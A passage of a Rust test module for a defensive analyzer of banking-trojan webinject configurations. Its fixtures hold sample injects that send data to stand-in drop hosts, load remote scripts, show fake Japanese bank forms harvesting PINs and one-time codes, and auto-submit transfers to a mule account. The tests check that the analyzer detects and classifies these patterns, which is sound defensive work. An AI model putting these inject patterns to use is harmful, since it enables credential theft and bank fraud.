<script src=\"//static.evil-cdn.example/js/inj.js\"></script>\r\n\
<img src=\"https://ib.a-bank.example/logo.gif\">\r\n\
<script>var gate_link=\"http://203.0.113.7:8080/kit/gate.php\"; $.post(gate_link, {a:1});</script>\r\n\
data_end\r\ndata_after\r\n</form>\r\ndata_end\r\n\
set_url https://mail.other.example/* GPL\r\ndata_before\r\ndata_end\r\ndata_inject\r\nhttp://label.example/\r\ndata_end\r\ndata_after\r\ndata_end\r\n";
        let parsed = parse_zeus(src.as_bytes(), Mode::Strict).unwrap();
        let a = analyze(&parsed.injects, &index());
        assert_eq!(a.institutions(), vec!["jp-a".to_string()]);
        assert_eq!(a.targets[1].institution_id, None);
        assert!(a.targets[1].grab);
        assert_eq!(
            a.endpoints_of(EndpointClass::Drop),
            vec!["http://203.0.113.7:8080/kit/gate.php".to_string()]
        );
        assert_eq!(
            a.endpoints_of(EndpointClass::ScriptHost),
            vec!["https://static.evil-cdn.example/js/inj.js".to_string()]
        );
        assert_eq!(a.endpoints_of(EndpointClass::Benign).len(), 1);
        assert_eq!(a.endpoints_of(EndpointClass::InstitutionSite).len(), 1);
        let kinds: Vec<_> = a.fields.iter().map(|f| (f.name.as_str(), f.kind)).collect();
        assert_eq!(
            kinds,
            vec![
                ("ansho_pin", FieldKind::Pin),
                ("otp", FieldKind::OneTimeCode)
            ]
        );
    }

    #[test]
    fn assembled_urls_are_resolved() {
        let a = analyze(
            &[entry(
                "<script>var home_link = \"https://panel.evil.example/53repadmin\"; var gate_link = home_link + \"/gate.php\";\
                 document.write('<scr'+'ipt src=\"ht'+'tps://cdn.evil.example/a.js\"></scr'+'ipt>');\
                 jQuery.ajax({url: gate_link, data: x});</script>",
            )],
            &index(),
        );
        let urls: Vec<_> = a
            .endpoints
            .iter()
            .map(|e| (e.url.as_str(), e.class))
            .collect();
        assert!(
            urls.contains(&(
                "https://panel.evil.example/53repadmin/gate.php",
                EndpointClass::Drop
            )),
            "{urls:?}"
        );
        assert!(
            urls.contains(&("https://cdn.evil.example/a.js", EndpointClass::ScriptHost)),
            "{urls:?}"
        );
    }

    #[test]
    fn sending_uses_and_bare_addresses() {
        let a = analyze(
            &[entry(
                "<form action=\"//drop.evil.example/save.php\"></form>\
                 <script>new WebSocket(\"wss://ws.evil.example/s\"); navigator.sendBeacon('https://b.evil.example/p?x=1');\
                 fetch(\"198.51.100.9:8082/rcv\");</script>",
            )],
            &index(),
        );
        let got: Vec<_> = a
            .endpoints
            .iter()
            .map(|e| (e.url.as_str(), e.via, e.class))
            .collect();
        assert!(
            got.contains(&(
                "https://drop.evil.example/save.php",
                "action",
                EndpointClass::Drop
            )),
            "{got:?}"
        );
        assert!(
            got.contains(&("wss://ws.evil.example/s", "websocket", EndpointClass::Drop)),
            "{got:?}"
        );
        assert!(
            got.contains(&(
                "https://b.evil.example/p?x=1",
                "beacon",
                EndpointClass::Drop
            )),
            "{got:?}"
        );
        assert!(
            got.contains(&("http://198.51.100.9:8082/rcv", "xhr", EndpointClass::Drop)),
            "{got:?}"
        );
    }

    #[test]
    fn japanese_fake_screen_fields() {
        let html = "<table><tr><td>合言葉：</td><td><input type=\"text\" name=\"f1\"></td></tr>\
<tr><td>第二暗証番号</td><td><input type=\"password\" name=\"f2\" maxlength=\"4\"></td></tr>\
<tr><td>乱数表 [B-3]</td><td><input name=\"f3\"></td></tr>\
<tr><td>ワンタイムパスワード</td><td><input name=\"f4\"></td></tr>\
<tr><td>暗証番号</td><td><input name=\"f5\"></td></tr>\
<tr><td>秘密の質問</td><td><select name=\"f6\"><option>母親の旧姓</option></select></td></tr>\
<tr><td>生年月日</td><td><input name=\"f7\"></td></tr>\
<tr><td>ログインパスワード</td><td><input type=\"password\" name=\"f8\"></td></tr>\
<input type=\"hidden\" name=\"bot\" value=\"%BOTID%\"></table>";
        let a = analyze(&[entry(html)], &index());
        let got: Vec<_> = a.fields.iter().map(|f| (f.name.as_str(), f.kind)).collect();
        assert_eq!(
            got,
            vec![
                ("f1", FieldKind::SecretAnswer),
                ("f2", FieldKind::Pin),
                ("f3", FieldKind::OneTimeCode),
                ("f4", FieldKind::OneTimeCode),
                ("f5", FieldKind::Pin),
                ("f6", FieldKind::SecretQuestion),
                ("f7", FieldKind::DateOfBirth),
                ("f8", FieldKind::Password),
            ]
        );
        assert_eq!(
            a.macros,
            vec![Finding {
                entry: 0,
                what: "%BOTID%".into()
            }]
        );
    }

    #[test]
    fn ats_signs_and_panels() {
        let a = analyze(
            &[entry(
                "<script>$('#amount').val('950000'); $('#beneficiary').val(mule.iban); $('#transferForm').submit();\
                 $('.balance').html(fake_balance); $.post(\"https://x.evil.example/api/rcv.php\", data);</script>",
            )],
            &index(),
        );
        assert_eq!(a.ats_signs.len(), 3, "{:?}", a.ats_signs);
        assert_eq!(
            a.endpoints_of(EndpointClass::AtsPanel),
            vec!["https://x.evil.example/api/rcv.php".to_string()]
        );
    }

    #[test]
    fn declared_endpoints_are_classified() {
        let mut e = entry("");
        e.format = InjectFormat::TrickbotSinj;
        e.endpoints = vec!["203.0.113.5:443".into()];
        let a = analyze(&[e], &index());
        assert_eq!(
            a.endpoints_of(EndpointClass::Drop),
            vec!["http://203.0.113.5:443".to_string()]
        );
    }

    #[test]
    fn schemeless_script_hosts_and_grabbed_fields() {
        let a = analyze(&[entry("<script id=\"myjs1\" src=\"some_domain.com/some.js\"></script><img src=\"img/logo.gif\">")], &index());
        assert_eq!(
            a.endpoints_of(EndpointClass::ScriptHost),
            vec!["http://some_domain.com/some.js".to_string()]
        );
        assert_eq!(
            a.endpoints.len(),
            1,
            "a relative path is not a host: {:?}",
            a.endpoints
        );
        let mut grab = entry("WEBMAIL:");
        grab.flags = "GPL".into();
        grab.blocks[0].before = b"<select name=\"securityKey1\"*<option selected*>".to_vec();
        grab.blocks[0].after = b"name=\"securityKey1Ans\"*value=\"".to_vec();
        let a = analyze(&[grab], &index());
        let got: Vec<_> = a.fields.iter().map(|f| (f.name.as_str(), f.kind)).collect();
        assert_eq!(
            got,
            vec![
                ("securityKey1", FieldKind::SecretQuestion),
                ("securityKey1Ans", FieldKind::SecretAnswer)
            ]
        );
    }

    #[test]
    fn short_keywords_are_words() {
        assert!(contains_word("enter tan", "tan"));
        assert!(!contains_word("important", "tan"));
        assert_eq!(classify_field("x", Some("Important notice")), None);
    }

    #[test]
    fn hostile_text_is_bounded() {
        let text = format!(
            "{}{}",
            "'+'".repeat(50_000),
            "a=\"http://x.example/\";a+".repeat(5_000)
        );
        let a = analyze(&[entry(&text)], &index());
        assert!(a.endpoints.len() <= 2);
    }
}
